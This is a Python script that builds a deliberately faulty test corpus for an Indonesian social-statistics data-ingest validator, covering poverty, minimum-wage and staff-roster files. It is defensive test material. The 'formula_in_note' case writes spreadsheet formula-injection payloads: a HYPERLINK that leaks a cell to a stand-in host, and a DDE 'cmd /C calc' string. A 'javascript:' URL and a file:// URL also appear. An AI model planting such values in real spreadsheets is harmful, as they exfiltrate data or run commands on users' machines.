"""Regenerate the ingest test corpus (bad inputs + good inputs). Deterministic; run from the repo root:

    .venv/bin/python tests/corpus/make_corpus.py

Every file in ``bad/`` holds one realistic fault; ``bad/expected.yaml`` maps each file to the table it is
offered as, the command (``add`` or ``validate``), options, the exact number of problems and message
fragments (incl. row and column) the error must contain. NIKs used here have kecamatan digits ``99``,
which no kab/kota in the Kemendagri code list uses, so they cannot be a real person's NIK.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import yaml

HERE = Path(__file__).resolve().parent
BAD = HERE / "bad"
GOOD = HERE / "good"
SRC = "https://www.bps.go.id/id/statistics-table/2/MTkyIzI=/jumlah-penduduk-miskin.html"
POV_HEADER = ["bps_code", "province", "year", "month", "p0_percent", "poor_thousand", "p1", "p2", "source_url", "note"]
POV_ROWS = [
    ["11", "Aceh", "2026", "3", "12.10", "690.50", "", "", SRC, ""],
    ["12", "Sumatera Utara", "2026", "3", "7.10", "1100.20", "", "", SRC, ""],
    ["13", "Sumatera Barat", "2026", "3", "5.30", "300.10", "", "", SRC, ""],
    ["00", "Indonesia", "2026", "3", "8.20", "23300.00", "", "", SRC, ""],
]
UMP_HEADER = ["bps_code", "province", "year", "ump_rupiah", "source_url", "note"]
UMP_ROWS = [
    ["11", "Aceh", "2027", "3900000", SRC, ""],
    ["12", "Sumatera Utara", "2027", "3100000", SRC, ""],
    ["13", "Sumatera Barat", "2027", "3000000", SRC, ""],
]
ROSTER_HEADER = ["staff_id", "staff_type", "education_level", "education_field", "employment_status", "bps_code",
                 "kabkota_code", "kecamatan_code", "start_date", "pay_rupiah_per_month", "caseload", "nik", "nama", "alamat"]
NIKS = ["3171994501900012", "3171990312850023", "3273991707920034", "3273995508880045", "1101990101800056",
        "1101992202790067"]


#: A roster in the layout Dinas Sosial send (Indonesian headers, a row number, columns the schema does not keep).
DINSOS_HEADER = ["No", "Nama", "NIK", "NIP", "Jabatan", "Pangkat/Gol", "Status Kepegawaian", "Pendidikan",
                 "Kode Provinsi", "Kode Kab", "TMT", "Honor", "Beban Kasus", "No HP"]
# NIPs: birth dates with day 12 (any), appointment 2010–2019, sequence 9xx: illustrative, checked plausible.
NIPS = ["198503122010011901", "199001122015032902", "", "", "198807122019031903", ""]


def dinsos_rows():
    jab = ["Pekerja Sosial Ahli Pertama", "Penyuluh Sosial Ahli Muda", "Pendamping PKH", "TKSK",
           "Pekerja Sosial Terampil", "Tenaga Kesejahteraan Sosial Kecamatan"]
    status = ["PNS", "PNS", "Kontrak", "Relawan", "PPPK", "Relawan"]
    rows = []
    for i, nik in enumerate(NIKS):
        bps = {"31": "31", "32": "32", "11": "11"}[nik[:2]]
        kab = nik[:4] if bps != "32" else "3273"
        rows.append([str(i + 1), f"Nama Contoh {i + 1}", nik, NIPS[i], jab[i], "III/a" if NIPS[i] else "", status[i],
                     "S1", bps, kab, "2019-01-02", "3.000.000,50", "250", "0812-0000-000" + str(i)])
    return rows


def roster_rows(niks=NIKS):
    rows = []
    for i, nik in enumerate(niks):
        prov = nik[:2]
        bps = {"31": "31", "32": "32", "11": "11"}[prov]
        kab = nik[:4] if prov != "32" else "3273"
        rows.append([f"DS-{i + 1:04d}", "Pendamping PKH", "S1", "Ekonomi", "Kontrak", bps, kab, kab + "010",
                     "2019-01-02", "3000000", "250", nik, f"Nama Contoh {i + 1}", f"Jl. Contoh No. {i + 1}"])
    return rows


def save_xlsx(wb, path: Path) -> None:
    """Save a workbook byte-for-byte reproducibly (fixed document dates and zip timestamps)."""
    import datetime
    import zipfile

    fixed = datetime.datetime(2026, 1, 1)
    wb.properties.created = fixed
    wb.properties.modified = fixed
    buf = io.BytesIO()
    wb.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                import re

                # keep the element's own attributes: with lxml installed openpyxl declares xmlns:xsi on the
                # element itself, not on the root
                data = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)",
                              rb"\g<1>2026-01-01T00:00:00Z\g<2>", data)
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=(2026, 1, 1, 0, 0, 0)), data,
                         compress_type=zipfile.ZIP_DEFLATED)
    path.write_bytes(out.getvalue())


def write_csv(path: Path, header, rows, *, delimiter=",", encoding="utf-8", bom=False) -> None:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator="\n")
    if header:
        w.writerow(header)
    w.writerows(rows)
    data = buf.getvalue().encode(encoding)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + data)


def bps_wide(path: Path, *, title="Jumlah dan Persentase Penduduk Miskin Menurut Provinsi, 2026", year=2026,
             rounds=("Semester 1 (Maret)", "Semester 2 (September)"), count_unit="(Ribu Jiwa)", rows=None,
             footnotes=("Catatan: Semester 2 (September) 2026 belum dirilis", "Sumber: Badan Pusat Statistik"),
             numbers_as_text=True, extra_rows_after=()) -> None:
    """A BPS-style export: title, merged 3-row header (indicator / semester / year), provinces, INDONESIA,
    aggregate row, footnotes."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Tabel"
    n = len(rounds)
    last_col = 1 + 2 * n
    ws.cell(1, 1, title)
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=last_col)
    ws.cell(2, 1, "Provinsi")
    ws.merge_cells(start_row=2, start_column=1, end_row=4, end_column=1)
    ws.cell(2, 2, "Persentase Penduduk Miskin (Persen)")
    ws.merge_cells(start_row=2, start_column=2, end_row=2, end_column=1 + n)
    ws.cell(2, 2 + n, f"Jumlah Penduduk Miskin {count_unit}")
    ws.merge_cells(start_row=2, start_column=2 + n, end_row=2, end_column=1 + 2 * n)
    for k, rnd in enumerate(rounds):
        ws.cell(3, 2 + k, rnd)
        ws.cell(3, 2 + n + k, rnd)
        if year is not None:
            ws.cell(4, 2 + k, year)
            ws.cell(4, 2 + n + k, year)
    r = 5
    for name, p0s, counts in rows:
        ws.cell(r, 1, name)
        for k in range(n):
            for col, v in ((2 + k, p0s[k]), (2 + n + k, counts[k])):
                if isinstance(v, float) and not numbers_as_text:
                    ws.cell(r, col, v)
                else:
                    ws.cell(r, col, v if isinstance(v, str) else f"{v:,.2f}".replace(",", "_").replace(".", ",").replace("_", "."))
        r += 1
    for extra in extra_rows_after:
        for c, v in enumerate(extra, start=1):
            ws.cell(r, c, v)
        r += 1
    r += 1
    for fn in footnotes:
        ws.cell(r, 1, fn)
        r += 1
    save_xlsx(wb, path)


# Values for the good BPS export (March 2026, 38 provinces + national): illustrative, NOT BPS figures.
def simple_wide(path: Path, title, headers, rows, sub=None) -> Path:
    """A minimal wide BPS-style sheet: title row, header row ``Provinsi | headers…``, optional sub-header
    row, then ``rows``; saved reproducibly. Also used by tests/test_ingest_hardening.py."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append([title])
    ws.append(["Provinsi", *headers])
    if sub:
        ws.append([None, *sub])
    for r in rows:
        ws.append(list(r))
    save_xlsx(wb, path)
    return path


def good_rows():
    import pandas as pd

    ref = pd.read_csv(HERE.parents[1] / "data/raw/regions/provinces.csv", dtype=str)
    # Counts consistent with P0 and each province's population (as implied by its March 2025 round), so
    # that the plausibility check of `kesos data add` (poor / P0 ≈ population) passes.
    pov = pd.read_csv(HERE.parents[1] / "data/raw/regions/poverty_province.csv", dtype={"bps_code": str})
    pov = pov[(pov["year"] == 2025) & (pov["month"] == 3)].set_index("bps_code")
    rows = []
    for k, rec in enumerate(ref.itertuples()):
        p0 = round(4.0 + (k * 7.3) % 25, 2)
        population = pov.loc[rec.bps_code, "poor_thousand"] / (pov.loc[rec.bps_code, "p0_percent"] / 100)
        cnt = round(p0 / 100 * population * (1 + ((k % 5) - 2) / 100), 2)
        name = rec.name_bps.upper() if k % 4 == 0 else rec.name_bps
        rows.append((name, (p0, "…"), (cnt, "…")))
    rows.append(("INDONESIA", (8.11, "…"), (23123.45, "…")))
    return rows


def main() -> None:
    BAD.mkdir(exist_ok=True)
    GOOD.mkdir(exist_ok=True)
    for f in BAD.iterdir():
        if f.name != "expected.yaml":
            f.unlink()
    exp: dict[str, dict] = {}

    def case(name, table, expect, problems=1, command="add", **options):
        exp[name] = {"table": table, "command": command, "problems": problems, "expect": expect}
        if options:
            exp[name]["options"] = options

    # --- encodings and file kinds -------------------------------------------------------------------
    text = "bps_code,province,year,month,p0_percent,poor_thousand,p1,p2,source_url,note\n" \
           f"11,Aceh,2026,3,12.10,690.50,,,{SRC},\n" \
           f"19,Kepulauan Bangka Belitung,2026,3,4.50,70.10,,,{SRC},angka sementara – BPS\n"
    (BAD / "bom_then_cp1252.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("cp1252"))
    case("bom_then_cp1252.csv", "poverty_province", ["row 3", "mixed encodings", "UTF-8 byte-order mark"])
    mixed = ("bps_code,province,year,month,p0_percent,poor_thousand,p1,p2,source_url,note\n"
             f"11,Aceh,2026,3,12.10,690.50,,,{SRC},catatan – BPS\n").encode("utf-8") + \
            f"12,Sumatera Utara,2026,3,7.10,1100.20,,,{SRC},catatan – BPS\n".encode("cp1252")
    (BAD / "utf8_and_cp1252_mixed.csv").write_bytes(mixed)
    case("utf8_and_cp1252_mixed.csv", "poverty_province", ["row 3", "mixes UTF-8 and another encoding"])
    (BAD / "utf16.csv").write_bytes("bps_code,province\n11,Aceh\n".encode("utf-16"))
    case("utf16.csv", "poverty_province", ["row 1", "UTF-16"])
    (BAD / "not_a_text_encoding.csv").write_bytes(b"bps_code,province,year,month\n11,Ac\x81eh\x8d,2026,3\n")
    case("not_a_text_encoding.csv", "poverty_province", ["row 2", "UTF-8, UTF-8 with BOM or cp1252"])
    (BAD / "empty.csv").write_bytes(b"")
    case("empty.csv", "poverty_province", ["empty file"])
    write_csv(BAD / "header_only.csv", POV_HEADER, [])
    case("header_only.csv", "poverty_province", ["no data rows"])
    (BAD / "legacy_excel.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    case("legacy_excel.xls", "poverty_province", ["legacy Excel .xls"])
    (BAD / "not_really.xlsx").write_text("this is a CSV renamed to .xlsx\n11,Aceh\n", encoding="utf-8")
    case("not_really.xlsx", "poverty_province", ["a valid .xlsx file"])

    # --- columns ------------------------------------------------------------------------------------
    write_csv(BAD / "extra_column.csv", POV_HEADER + ["garis_kemiskinan"], [r + ["550000"] for r in POV_ROWS])
    case("extra_column.csv", "poverty_province", ["row 1", "column 'garis_kemiskinan'", "no extra columns"])
    write_csv(BAD / "missing_month_column.csv", [h for h in POV_HEADER if h != "month"],
              [[v for h, v in zip(POV_HEADER, r) if h != "month"] for r in POV_ROWS])
    case("missing_month_column.csv", "poverty_province", ["column 'month'", "the column to be present"])
    write_csv(BAD / "duplicate_column.csv", POV_HEADER + ["year"], [r + ["2026"] for r in POV_ROWS])
    case("duplicate_column.csv", "poverty_province", ["row 1", "'year' appears twice"])
    write_csv(BAD / "missing_source.csv", [h for h in POV_HEADER if h != "source_url"],
              [[v for h, v in zip(POV_HEADER, r) if h != "source_url"] for r in POV_ROWS])
    case("missing_source.csv", "poverty_province", ["column 'source_url'", "--source URL"], no_source=True)

    # --- rows and keys ------------------------------------------------------------------------------
    write_csv(BAD / "duplicate_round.csv", POV_HEADER, POV_ROWS + [POV_ROWS[0]])
    case("duplicate_round.csv", "poverty_province", ["row 2", "row 6", "column 'bps_code, month, year'", "duplicate row"], problems=2)
    write_csv(BAD / "september_2023.csv", POV_HEADER,
              POV_ROWS[:1] + [["12", "Sumatera Utara", "2023", "9", "8.10", "1200.00", "", "", SRC, ""]])
    case("september_2023.csv", "poverty_province", ["row 3: value '(whole row)'", "September 2023"])
    write_csv(BAD / "month_6.csv", POV_HEADER, POV_ROWS[:1] + [["12", "Sumatera Utara", "2026", "6", "7.10", "1100.20", "", "", SRC, ""]])
    case("month_6.csv", "poverty_province", ["row 3", "column 'month'", "value 6", "one of [3, 9]"])
    write_csv(BAD / "negative_p0.csv", POV_HEADER, POV_ROWS[:1] + [["12", "Sumatera Utara", "2026", "3", "-7.10", "1100.20", "", "", SRC, ""]])
    case("negative_p0.csv", "poverty_province", ["row 3", "column 'p0_percent'", "-7.1", "[0, 100]"])
    write_csv(BAD / "p0_over_100.csv", POV_HEADER, POV_ROWS[:2] + [["13", "Sumatera Barat", "2026", "3", "530", "300.10", "", "", SRC, ""]])
    case("p0_over_100.csv", "poverty_province", ["row 4", "column 'p0_percent'", "530", "[0, 100]"])
    write_csv(BAD / "year_not_whole.csv", POV_HEADER, POV_ROWS[:1] + [["12", "Sumatera Utara", "2026.5", "3", "7.10", "1100.20", "", "", SRC, ""]])
    case("year_not_whole.csv", "poverty_province", ["row 3", "column 'year'", "2026.5", "a whole number"])
    write_csv(BAD / "excel_error_value.csv", POV_HEADER, POV_ROWS[:1] + [["12", "Sumatera Utara", "2026", "3", "#DIV/0!", "1100.20", "", "", SRC, ""]])
    case("excel_error_value.csv", "poverty_province", ["row 3", "column 'p0_percent'", "#DIV/0!", "a number in the format"])
    write_csv(BAD / "footnote_inside_data.csv", POV_HEADER,
              POV_ROWS[:2] + [["Catatan: angka sementara"]] + POV_ROWS[2:])
    case("footnote_inside_data.csv", "poverty_province", ["row 5", "after the footnote/notes row 4"])
    write_csv(BAD / "conflicts_with_existing_round.csv", POV_HEADER,
              [["11", "Aceh", "2025", "3", "13.99", "700.00", "", "", SRC, ""]])
    case("conflicts_with_existing_round.csv", "poverty_province",
         ["row 2", "column 'p0_percent'", "13.99", "--replace", "bps_code=11, year=2025, month=3"], problems=2)

    # --- regions ------------------------------------------------------------------------------------
    write_csv(BAD / "unknown_province_name.csv", [h for h in POV_HEADER if h != "bps_code"],
              [r[1:] for r in POV_ROWS[:1]] + [["Jawa Barrat", "2026", "3", "7.10", "4000.20", "", "", SRC, ""]])
    case("unknown_province_name.csv", "poverty_province", ["row 3", "column 'province'", "Jawa Barrat", "closest matches: Jawa Barat"])
    write_csv(BAD / "code_lost_leading_zero.csv", UMP_HEADER, UMP_ROWS[:1] + [["1", "Sumatera Utara", "2027", "3100000", SRC, ""]])
    case("code_lost_leading_zero.csv", "ump_province", ["row 3", "column 'bps_code'", "lost leading zeros"])
    write_csv(BAD / "code_name_mismatch.csv", POV_HEADER, POV_ROWS[:1] + [["12", "Aceh", "2026", "3", "7.10", "1100.20", "", "", SRC, ""]])
    case("code_name_mismatch.csv", "poverty_province", ["row 3", "column 'province'", "the province of bps_code '12' (Sumatera Utara)"])
    write_csv(BAD / "kemendagri_code_for_papua_selatan.csv", UMP_HEADER, UMP_ROWS[:1] + [["93", "", "2027", "4500000", SRC, ""]])
    case("kemendagri_code_for_papua_selatan.csv", "ump_province", ["row 3", "column 'bps_code'", "'93'", "listed in regions/provinces.csv"])

    # --- numbers ------------------------------------------------------------------------------------
    write_csv(BAD / "id_numbers_in_english_declared_file.csv", POV_HEADER,
              POV_ROWS[:1] + [["12", "Sumatera Utara", "2026", "3", "7,10", "1.100,20", "", "", SRC, ""]])
    case("id_numbers_in_english_declared_file.csv", "poverty_province",
         ["row 3", "column 'poor_thousand'", "1.100,20", "declared with --decimal", "column 'p0_percent'"], problems=2, decimal=".")
    (BAD / "decimal_comma_unquoted.csv").write_text(
        ",".join(POV_HEADER) + "\n" + ",".join(POV_ROWS[0]) + "\n"
        + f"12,Sumatera Utara,2026,3,7,10,1100.20,,,{SRC},\n", encoding="utf-8")
    case("decimal_comma_unquoted.csv", "poverty_province", ["row 3", "10 fields like the header row, found 11",
                                                            "decimal comma in an unquoted cell"])
    write_csv(BAD / "mixed_number_formats.csv", POV_HEADER,
              POV_ROWS[:1] + [["12", "Sumatera Utara", "2026", "3", "7,10", "1.100,20", "", "", SRC, ""]])
    case("mixed_number_formats.csv", "poverty_province", ["row 2", "one number format per file", "row 3"])
    amb = [["11", "Aceh", "2027", "3.900", SRC, ""], ["12", "Sumatera Utara", "2027", "3.100", SRC, ""]]
    write_csv(BAD / "ambiguous_thousands.csv", ["bps_code", "province", "year", "ump_rupiah", "source_url", "note"], amb)
    case("ambiguous_thousands.csv", "ump_province", ["row 2", "column 'ump_rupiah'", "3.900", "--decimal"])
    # Sen are accepted (Rp1.958.169,69 in the Jawa Tengah UMP 2023 decree); a third decimal is not Rupiah.
    write_csv(BAD / "ump_with_decimals.csv", UMP_HEADER, UMP_ROWS[:1] + [["12", "Sumatera Utara", "2027", "3.100.000,505", SRC, ""]], delimiter=";")
    case("ump_with_decimals.csv", "ump_province", ["row 3", "column 'ump_rupiah'", "Rupiah with at most 2 decimals (sen)"])
    write_csv(BAD / "symbol_x_where_required.csv", UMP_HEADER, UMP_ROWS[:1] + [["12", "Sumatera Utara", "2027", "x", SRC, ""]])
    case("symbol_x_where_required.csv", "ump_province", ["row 3", "column 'ump_rupiah'", "'x'", "not available for publication"])
    write_csv(BAD / "ellipsis_where_required.csv", UMP_HEADER, UMP_ROWS[:2] + [["13", "Sumatera Barat", "2027", "…", SRC, ""]])
    case("ellipsis_where_required.csv", "ump_province", ["row 4", "column 'ump_rupiah'", "data not available"])

    # --- BPS wide exports (XLSX) ----------------------------------------------------------------------
    base = [("Aceh", (12.1, "…"), (690.5, "…")), ("Sumatera Utara", (7.1, "…"), (1100.2, "…"))]
    bps_wide(BAD / "wide_month_juni.xlsx", rounds=("Juni",), rows=[(n, p[:1], c[:1]) for n, p, c in base])
    case("wide_month_juni.xlsx", "poverty_province", ["row 4", "column 'B'", "Juni", "found month 6"], problems=2)
    bps_wide(BAD / "wide_no_year.xlsx", title="Persentase dan Jumlah Penduduk Miskin Menurut Provinsi", year=None,
             rows=base)
    case("wide_no_year.xlsx", "poverty_province", ["row 4", "column 'B'", "column 'E'", "exactly one year"], problems=4)
    bps_wide(BAD / "wide_counts_no_unit.xlsx", count_unit="", rows=[(n, p[:1], c[:1]) for n, p, c in base],
             rounds=("Semester 1 (Maret)",))
    case("wide_counts_no_unit.xlsx", "poverty_province", ["row 4", "column 'C'", "a unit for poor_thousand",
                                                          "--unit thousand|persons|million"])
    bps_wide(BAD / "wide_unknown_province.xlsx", rows=base + [("Kalimantan Tengahh", (5.0, "…"), (140.0, "…"))])
    case("wide_unknown_province.xlsx", "poverty_province", ["row 7", "column 'A (province)'", "Kalimantan Tengahh", "closest matches: Kalimantan Tengah"])
    bps_wide(BAD / "wide_footnote_between_rows.xlsx", rows=base[:1],
             extra_rows_after=[("1) Angka sementara",), ("Sumatera Utara", "7,10", "…", "1.100,20", "…")])
    case("wide_footnote_between_rows.xlsx", "poverty_province", ["row 7", "after the footnote/notes row 6"])

    # --- wide layouts: which indicator a column is (findings of the adversarial review) ----------------
    simple_wide(BAD / "wide_population_as_poor.xlsx", "Penduduk dan Persentase Penduduk Miskin, Maret 2026",
                ["Jumlah Penduduk (Ribu Jiwa)", "Persentase Penduduk Miskin (%)"],
                [("Aceh", "5.554,80", "10,70"), ("Bali", "4.433,30", "3,80")])
    case("wide_population_as_poor.xlsx", "poverty_province",
         ["row 2", "column 'B'", "'Jumlah Penduduk (Ribu Jiwa)'", "total population, not a poverty indicator"])
    simple_wide(BAD / "wide_poor_as_population.xlsx", "Jumlah Penduduk Miskin Menurut Provinsi, Maret 2026",
                ["Jumlah Penduduk Miskin (Ribu Jiwa)"], [("Aceh", "789,50"), ("Bali", "170,20")], sub=["Maret 2026"])
    case("wide_poor_as_population.xlsx", "population_province",
         ["row 3", "column 'B'", "not total population"])
    simple_wide(BAD / "wide_rural_only.xlsx", "Persentase Penduduk Miskin di Daerah Perdesaan Menurut Provinsi (Persen)",
                ["Maret 2026", "September 2026"], [("Aceh", "16,20", "16,00"), ("Bali", "5,20", "5,00")])
    case("wide_rural_only.xlsx", "poverty_province",
         ["row 2", "column 'B'", "column 'C'", "Perdesaan (rural) areas only"], problems=2)
    simple_wide(BAD / "wide_urban_rural_without_total.xlsx", "Persentase Penduduk Miskin Menurut Provinsi, Maret 2026",
                ["Perkotaan", "Perdesaan"], [("Aceh", "10,50", "16,20"), ("Bali", "3,10", "5,20")])
    case("wide_urban_rural_without_total.xlsx", "poverty_province",
         ["column 'B'", "column 'C'", "Perkotaan (urban) areas only", "no total (Perkotaan+Perdesaan"], problems=2)
    simple_wide(BAD / "wide_duplicate_province.xlsx", "Persentase Penduduk Miskin (Persen)", ["Maret 2026", "Maret 2025"],
                [("Aceh", "10,70", "12,33"), ("DKI Jakarta", "4,10", "4,28"), ("D.K.I. Jakarta", "4,30", "4,28")])
    case("wide_duplicate_province.xlsx", "poverty_province",
         ["row 5", "'D.K.I. Jakarta'", "DKI Jakarta (bps_code 31) is row 4 ('DKI Jakarta') and row 5", "Maret 2026, Maret 2025"])
    simple_wide(BAD / "wide_september_2023.xlsx", "Persentase Penduduk Miskin (Persen)",
                ["Maret 2024", "Semester 2 (September) 2023"], [("Aceh", "14,23", "14,45")])
    case("wide_september_2023.xlsx", "poverty_province", ["row 2", "column 'C'", "no September 2023 column"])

    # --- units and scale (plausibility: poor / P0 must be close to the province's population) -----------
    write_csv(BAD / "p0_as_fraction.csv", POV_HEADER, [["11", "Aceh", "2026", "3", "0.1070", "789.50", "", "", SRC, ""],
                                                       ["12", "Sumatera Utara", "2026", "3", "7.12", "1120.30", "", "", SRC, ""]])
    case("p0_as_fraction.csv", "poverty_province", ["row 2", "column 'p0_percent, poor_thousand'", "p0_percent 0.107",
                                                    "implies a population of 737,850.5 thousand", "population_province 2024: 5,554.8 thousand"])
    write_csv(BAD / "poor_in_persons.csv", POV_HEADER, [["11", "Aceh", "2026", "3", "10.70", "789500", "", "", SRC, ""]])
    case("poor_in_persons.csv", "poverty_province", ["row 2", "poor_thousand 789500", "in persons instead of thousands"])

    # --- XLSX traps --------------------------------------------------------------------------------------
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in [["provinsi", "tahun", "ump_rupiah"], ["Aceh", 2027, 3900000], ["Bali", 2027, 3200000],
              ["Papua Selatan", 2027, 9999999]]:
        ws.append(r)
    ws.row_dimensions[4].hidden = True
    save_xlsx(wb, BAD / "xlsx_hidden_row.xlsx")
    case("xlsx_hidden_row.xlsx", "ump_province", ["row 4", "hidden row(s) 4", "unhide them"])
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in [["provinsi", "tahun", "bulan", "p0_percent", "poor_thousand"], ["Aceh", 2026, 3, "=B9/10", 789.5]]:
        ws.append(r)
    save_xlsx(wb, BAD / "xlsx_formula_without_value.xlsx")
    case("xlsx_formula_without_value.xlsx", "poverty_province", ["row 2", "column 'D2'", "'=B9/10'", "no saved result"])

    # --- NIKs where they must never go ----------------------------------------------------------------
    write_csv(BAD / "nik_in_note.csv", ["provinsi", "tahun", "ump_rupiah", "catatan"],
              [["Aceh", "2027", "3900000", f"SK Gubernur; dikirim oleh operator NIK {NIKS[0][:4]} {NIKS[0][4:8]} {NIKS[0][8:12]} {NIKS[0][12:]}"]])
    case("nik_in_note.csv", "ump_province", ["row 2", "column 'note'", "3171…0012", "no NIK"])

    # --- CSV structure and codes ----------------------------------------------------------------------
    (BAD / "short_row.csv").write_text("provinsi,tahun,ump_rupiah\nAceh,2027,3900000\nBali,2027\n", encoding="utf-8")
    case("short_row.csv", "ump_province", ["row 3", "2 fields, expected 3"])
    (BAD / "unclosed_quote.csv").write_text('provinsi,tahun,ump_rupiah\n"Aceh,2027,3900000\nBali,2027,3200000\n',
                                            encoding="utf-8")
    case("unclosed_quote.csv", "ump_province", ["row 2", "unclosed quote starting row 2"])
    write_csv(BAD / "papua_codes_without_names.csv", ["kode_provinsi", "tahun", "ump_rupiah"],
              [["91", "2027", "4300000"], ["92", "2027", "3800000"], ["94", "2027", "4400000"]])
    case("papua_codes_without_names.csv", "ump_province", ["row 1", "column 'kode_provinsi'", "'91, 92, 94'",
                                                           "--code-system bps or --code-system kemendagri"])

    # --- rosters (personal data) -----------------------------------------------------------------------
    rows = roster_rows()
    rows[2][11] = "3.17E+15"
    write_csv(BAD / "roster_nik_scientific.csv", ROSTER_HEADER, rows)
    case("roster_nik_scientific.csv", "staff_roster", ["row 4", "column 'nik'", "'3.17E+15'", "scientific notation"], command="validate")
    rows = roster_rows()
    rows[1][11] = rows[1][11][:15]
    write_csv(BAD / "roster_nik_15_digits.csv", ROSTER_HEADER, rows)
    case("roster_nik_15_digits.csv", "staff_roster", ["row 3", "column 'nik'", "exactly 16 digits (found 15)"], command="validate")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(ROSTER_HEADER)
    for r in roster_rows():
        r = list(r)
        r[11] = float(r[11])  # what Excel does to a NIK typed into a General cell
        ws.append(r)
    save_xlsx(wb, BAD / "roster_nik_numeric_cells.xlsx")
    case("roster_nik_numeric_cells.xlsx", "staff_roster", ["row 2", "row 7", "nik [L2]", "nik [L7]", "stored as a number"], problems=6,
         command="validate")
    rows = roster_rows([n[:15] + "0" for n in NIKS])
    write_csv(BAD / "roster_nik_last_digit_zeroed.csv", ROSTER_HEADER, rows)
    case("roster_nik_last_digit_zeroed.csv", "staff_roster", ["column 'nik'", "all 6 NIKs end in 0"], command="validate")
    rows = roster_rows()
    rows[0][11] = "9971994501900012"
    write_csv(BAD / "roster_nik_bad_province.csv", ROSTER_HEADER, rows)
    case("roster_nik_bad_province.csv", "staff_roster", ["row 2", "Kemendagri province code", "'99'", "9971…0012"], command="validate")
    rows = roster_rows()
    rows[3][6] = "3171"
    write_csv(BAD / "roster_kabkota_outside_province.csv", ROSTER_HEADER, rows)
    case("roster_kabkota_outside_province.csv", "staff_roster", ["row 5", "kabkota_code must start with the row's bps_code",
         "kecamatan_code must start with the row's kabkota_code"], problems=2, command="validate")
    rows = roster_rows()
    rows[1][11] = "'" + rows[1][11]
    write_csv(BAD / "roster_nik_apostrophe.csv", ROSTER_HEADER, rows)
    case("roster_nik_apostrophe.csv", "staff_roster", ["row 3", "column 'nik'", "text-prefix apostrophe"], command="validate")
    write_csv(BAD / "roster_to_data_raw.csv", ROSTER_HEADER, roster_rows())
    case("roster_to_data_raw.csv", "staff_roster", ["never stored in data/raw"], problems=0)

    # --- issue 12: wrong input that used to become a wrong number --------------------------------------
    # A UMP for a province before it existed (Papua Selatan: UU 14/2022 of 25 July 2022).
    write_csv(BAD / "ump_before_province_created.csv", UMP_HEADER,
              [["11", "Aceh", "2021", "3165030", SRC, ""], ["95", "Papua Selatan", "2021", "3516700", SRC, ""]])
    case("ump_before_province_created.csv", "ump_province",
         ["row 3", "column 'bps_code'", "no row for Papua Selatan (bps_code 95) in 2021", "created on 2022-07-25"])
    # A ×10 typo (one zero too many) against the province's neighbouring year and the national range.
    write_csv(BAD / "ump_times_ten.csv", UMP_HEADER,
              [["11", "Aceh", "2027", "39000000", SRC, ""], ["12", "Sumatera Utara", "2027", "3100000", SRC, ""]])
    case("ump_times_ten.csv", "ump_province", ["row 2", "column 'ump_rupiah'", "39000000",
                                               "close to the province's neighbouring year", "×10"])
    # A poverty round in the future: the report period would become 2015–2099.
    write_csv(BAD / "poverty_round_2099.csv", POV_HEADER, [["11", "Aceh", "2099", "3", "12.10", "690.50", "", "", SRC, ""]])
    case("poverty_round_2099.csv", "poverty_province", ["row 2", "column 'year'", "2099",
                                                        "a round that BPS has already published",
                                                        "the March 2099 round is published in July 2099"])
    # Text a spreadsheet would execute.
    write_csv(BAD / "formula_in_note.csv", UMP_HEADER,
              [["11", "Aceh", "2027", "3900000", SRC, '=HYPERLINK("http://x.example/?leak="&A1,"SK")'],
               ["12", "Sumatera Utara", "2027", "3100000", SRC, "@SUM(1+1)*cmd|' /C calc'!A0"]])
    case("formula_in_note.csv", "ump_province", ["row 2", "row 3", "column 'note'", "=HYPERLINK", "@SUM",
                                                 "will not run as a formula"], problems=2)
    # Source addresses must be http(s).
    write_csv(BAD / "source_not_http.csv", UMP_HEADER,
              [["11", "Aceh", "2027", "3900000", "file:///C:/Users/operator/ump.xlsx", ""],
               ["12", "Sumatera Utara", "2027", "3100000", "javascript:alert(1)", ""]])
    case("source_not_http.csv", "ump_province", ["row 2", "row 3", "column 'source_url'",
                                                 "starting with http:// or https://"], problems=2)
    # An 18-digit NIP (birth date 1985-03-12, appointed 2010-01, man, no. 002) in a note.
    write_csv(BAD / "nip_in_note.csv", ["provinsi", "tahun", "ump_rupiah", "catatan"],
              [["Aceh", "2027", "3900000", "SK ditandatangani Kadis, NIP 19850312 201001 1 002"]])
    case("nip_in_note.csv", "ump_province", ["row 2", "column 'note'", "1985…1002", "no NIP"])
    # A 16-digit number that fails the NIK checks (province 99) is still withheld from data.
    write_csv(BAD / "implausible_nik_in_note.csv", ["provinsi", "tahun", "ump_rupiah", "catatan"],
              [["Aceh", "2027", "3900000", "pengirim 9971994501900012"]])
    case("implausible_nik_in_note.csv", "ump_province", ["row 2", "column 'note'", "9971…0012",
                                                         "identifier-like number of 16–18 digits"])
    # Identifiers written right after a label, in slash groups or as a float: still personal data.
    for fname, note, shown, kind in [("nik_after_label_in_note.csv", "NIK3171994501900012", "3171…0012", "no NIK"),
                                     ("nik_slash_groups_in_note.csv", "3171/9945/0190/0012", "3171…0012", "no NIK"),
                                     ("nip_after_label_in_note.csv", "NIP198001012005011001", "1980…1001", "no NIP"),
                                     ("nip_as_float_in_note.csv", "198001012005011001.0", "1980…1001", "no NIP")]:
        write_csv(BAD / fname, ["provinsi", "tahun", "ump_rupiah", "catatan"], [["Aceh", "2027", "3900000", note]])
        case(fname, "ump_province", ["row 2", "column 'note'", shown, kind])
    # A NIK in the --note text (stored in datapackage.json history) is refused like one in a cell.
    write_csv(BAD / "nik_in_note_option.csv", UMP_HEADER, UMP_ROWS[:1])
